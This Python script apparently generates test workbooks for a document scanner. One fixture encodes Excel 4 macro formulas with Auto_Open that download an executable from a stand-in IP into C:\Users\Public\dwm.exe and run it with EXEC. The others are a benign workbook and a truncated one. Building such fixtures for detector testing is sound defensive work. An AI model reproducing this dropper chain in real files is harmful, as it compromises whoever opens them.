#!/usr/bin/env python3
"""mkxlsb.py OUTDIR - xlsb workbooks with Excel 4 macro sheets, for the
tests of kensa doc: the BIFF12 records ([MS-XLSB]) written from the
format's description, formulas as parsed tokens.

  xlsb_exec.xlsb    Auto_Open + a macro sheet whose formulas download and
                    run a program (CALL URLDownloadToFileA, EXEC)
  xlsb_benign.xlsb  a macro sheet that sums and returns, no Auto_Open
  xlsb_broken.xlsb  a macro sheet cut in the middle of a record
"""
import os
import struct
import sys
import zipfile


def groups(v):
    """v in groups of 7 bits, low first, the high bit saying more follow."""
    out = bytearray()
    while True:
        b = v & 0x7F
        v >>= 7
        out.append(b | (0x80 if v else 0))
        if not v:
            return bytes(out)


def rec(rtype, data=b""):
    """A BIFF12 record: type and size in 7-bit groups."""
    return groups(rtype) + groups(len(data)) + data


def wide(s):
    """XLWideString: 4-byte count of UTF-16 units, then the units."""
    u = s.encode("utf-16-le")
    return struct.pack("<I", len(u) // 2) + u


# formula tokens (value class where it matters)
def ptg_str(s):
    u = s.encode("utf-16-le")
    return b"\x17" + struct.pack("<H", len(u) // 2) + u


def ptg_int(v):
    return b"\x1e" + struct.pack("<H", v)


def ptg_ref(row, col):
    return b"\x44" + struct.pack("<IH", row, col | 0xC000)


def ptg_funcvar(argc, tab):
    return b"\x42" + struct.pack("<BH", argc, tab)


def ptg_func(tab):
    return b"\x41" + struct.pack("<H", tab)


def fmla_string(col, rgce, flags=True):
    cell = struct.pack("<I", col) + b"\x00\x00\x00\x00"
    body = cell + wide("")
    if flags:
        body += b"\x00\x00"
    body += struct.pack("<I", len(rgce)) + rgce + struct.pack("<I", 0)
    return rec(8, body)


def fmla_num(col, rgce):
    cell = struct.pack("<I", col) + b"\x00\x00\x00\x00"
    body = cell + struct.pack("<d", 0.0) + b"\x00\x00"
    body += struct.pack("<I", len(rgce)) + rgce + struct.pack("<I", 0)
    return rec(9, body)


def row(r):
    return rec(0, struct.pack("<I", r) + b"\x00" * 13)


def sheet(cells):
    out = rec(129) + rec(145)          # BrtBeginSheet, BrtBeginSheetData
    for r, cell in enumerate(cells):
        out += row(r) + cell
    return out + rec(146) + rec(130)   # BrtEndSheetData, BrtEndSheet


def workbook(auto_open):
    out = rec(131)                     # BrtBeginBook
    if auto_open:
        # BrtName: flags, chKey, itab, name, formula (=Macro1!$A$1 left
        # out: cce 0), no comment
        out += rec(39, struct.pack("<IBI", 0, 0, 0xFFFFFFFF) +
                   wide("Auto_Open") + struct.pack("<II", 0, 0))
    return out + rec(132)              # BrtEndBook


CT = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
      '<Override PartName="/xl/workbook.bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>'
      '<Override PartName="/xl/macrosheets/sheet1.bin" ContentType="application/vnd.ms-excel.macrosheet"/>'
      '</Types>')
RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.bin"/>'
        '</Relationships>')
WBRELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
          '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.bin"/>'
          '</Relationships>')


def xlsb(path, auto_open, macro_sheet):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", CT)
        z.writestr("_rels/.rels", RELS)
        z.writestr("xl/_rels/workbook.bin.rels", WBRELS)
        z.writestr("xl/workbook.bin", workbook(auto_open))
        z.writestr("xl/macrosheets/sheet1.bin", macro_sheet)


def main():
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    url = "http://203.0.113.9/dwm.exe"
    dst = "C:\\Users\\Public\\dwm.exe"
    # =CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,url,dst,0,0)
    call = (ptg_str("urlmon") + ptg_str("URLDownloadToFileA") +
            ptg_str("JJCCJJ") + ptg_int(0) + ptg_str(url) + ptg_str(dst) +
            ptg_int(0) + ptg_int(0) + ptg_funcvar(8, 150))
    # =EXEC(dst), written without the flags field by some writers
    ex = ptg_str(dst) + ptg_funcvar(1, 110)
    # =GOTO(A5) (a reference), =HALT()
    go = ptg_ref(4, 0) + ptg_func(53)
    halt = ptg_funcvar(0, 54)
    xlsb(os.path.join(out, "xlsb_exec.xlsb"), True,
         sheet([fmla_string(0, call), fmla_string(0, ex, flags=False),
                fmla_num(0, go), fmla_string(0, halt)]))
    # =SUM(1,2), =RETURN()
    xlsb(os.path.join(out, "xlsb_benign.xlsb"), False,
         sheet([fmla_num(0, ptg_int(1) + ptg_int(2) + ptg_funcvar(2, 4)),
                fmla_string(0, ptg_funcvar(0, 55))]))
    # the EXEC formula whole, then the download cut in the middle
    broken = sheet([fmla_string(0, ex), fmla_string(0, call)])
    xlsb(os.path.join(out, "xlsb_broken.xlsb"), True, broken[:-40])


if __name__ == "__main__":
    main()
